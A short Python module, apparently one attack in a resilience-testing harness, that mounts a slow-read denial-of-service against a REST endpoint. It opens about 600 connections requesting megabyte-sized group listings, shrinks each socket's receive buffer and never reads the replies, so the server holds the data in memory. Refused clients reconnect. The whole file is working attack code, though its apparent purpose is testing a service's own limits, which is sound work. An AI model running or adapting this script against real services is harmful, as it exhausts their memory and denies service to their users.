"""Answers of REST that are asked for and not read."""

from __future__ import annotations

import select
import socket
import time
from typing import Optional, Set

from outcome import Outcome
from service import Target

CONNECTIONS = 600


def attack(target: Target, source: str, seconds: float) -> Outcome:
    """600 lists of a hundred groups with all their members, megabytes each. Whoever is refused, or cut off for reading
    nothing, asks again."""
    path = "/api/greedy/groups"
    request = f"GET {path} HTTP/1.1\r\nHost: localhost\r\nX-Api-Key: {target.keys['greedy']}\r\n\r\n".encode()
    held: Set[socket.socket] = set()
    asked = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        # Few a second once all have asked: what is measured is what is held, and not what it costs to answer.
        for _ in range(min(20 if asked < CONNECTIONS else 2, CONNECTIONS - len(held))):
            connection = ask(target, source, request)
            if connection is None:
                break
            held.add(connection)
            asked += 1
        for connection in select.select(list(held), [], [], 0.05)[0]:
            # Small answers are refusals, and of large ones what the kernel keeps is a little: so much is looked at, and
            # left where it is.
            try:
                is_over = connection.recv(64, socket.MSG_PEEK)[9:12] not in (b"200",)
            except OSError:
                is_over = True
            if is_over:
                held.discard(connection)
                connection.close()
        time.sleep(0.1)
    for connection in held:
        connection.close()
    return Outcome(f"{asked:,} answers asked for")


def ask(target: Target, source: str, request: bytes) -> Optional[socket.socket]:
    """None where the service takes no more connections for now."""
    connection = socket.socket()
    # What is not read is kept by the service, and not by the kernel.
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    connection.settimeout(1)
    connection.bind((source, 0))
    try:
        connection.connect(target.rest)
        connection.sendall(request)
    except OSError:
        connection.close()
        return None
    connection.setblocking(False)
    return connection
